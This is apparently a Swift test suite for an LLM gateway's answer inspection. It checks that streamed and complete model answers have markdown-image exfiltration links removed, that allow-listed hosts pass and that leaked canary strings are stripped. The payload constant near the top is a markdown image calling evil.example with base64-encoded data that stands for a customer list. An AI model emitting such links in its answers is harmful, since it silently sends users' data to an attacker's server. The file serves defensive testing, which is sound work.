import BulwarkCore
import BulwarkStore
import BulwarkTesting
import Foundation
import HTTPTypes
import HummingbirdTesting
import Testing

@Suite struct AnswerInspectionRouteTests {
    // The fake upstream echoes the prompt, so the prompt decides what the "model" answers.
    static let policy = """
        injection:
          action: flag
        answers:
          allowed_link_hosts: [docs.example.com]
          canaries: [CANARY-5f2b9e71]
        """
    static let exfiltration = "![chart](https://evil.example/collect.png?d=Q3VzdG9tZXIgbGlzdCBmb3IgUTM)"

    static func harness() -> GatewayHarness {
        GatewayHarness(policyTemplate: GatewayHarness.defaultPolicy + "\n" + policy)
    }

    @Test func aStreamedExfiltratingImageIsNeutralizedEvenWhenSplitAcrossChunks() async throws {
        try await Self.harness().run { s in
            let response = try await s.client.chat(
                model: "chunky",
                key: s.keys["alice"],
                stream: true,
                content: "Here is the report \(Self.exfiltration) thanks"
            )
            #expect(response.status == .ok)
            let text = ContentInspectionRouteTests.streamedContent(response.text)
            #expect(text.hasPrefix("echo: Here is the report "))
            #expect(text.hasSuffix(" thanks"))
            #expect(!text.contains("![chart](https://evil.example"))
            #expect(!text.contains("Q3VzdG9tZXIgbGlzdCBmb3IgUTM"))
            let completion = try #require(try await s.store.audit.records(after: 0, limit: 100).last?.draft)
            #expect(completion.details["answer_findings"]?.contains("image") == true)
        }
    }

    @Test func aCompleteAnswerIsInspectedAndAllowListedHostsPass() async throws {
        try await Self.harness().run { s in
            let allowed = "![diagram](https://docs.example.com/arch.png)"
            let response = try await s.client.chat(
                model: "gpt-4o-mini",
                key: s.keys["alice"],
                content: "see \(allowed) and \(Self.exfiltration)"
            )
            let choices = try #require(response.json["choices"] as? [[String: Any]])
            let content = try #require((choices[0]["message"] as? [String: Any])?["content"] as? String)
            #expect(content.contains(allowed))
            #expect(!content.contains("evil.example/collect.png?d="))
        }
    }

    @Test func aLeakedCanaryIsRemovedFromTheAnswer() async throws {
        try await Self.harness().run { s in
            let response = try await s.client.chat(
                model: "gpt-4o-mini",
                key: s.keys["alice"],
                content: "my notes say CANARY-5f2b9e71 ok"
            )
            #expect(!response.text.contains("CANARY-5f2b9e71"))
            let completion = try #require(try await s.store.audit.records(after: 0, limit: 100).last?.draft)
            #expect(completion.details["answer_findings"]?.contains("canary") == true)
        }
    }
}
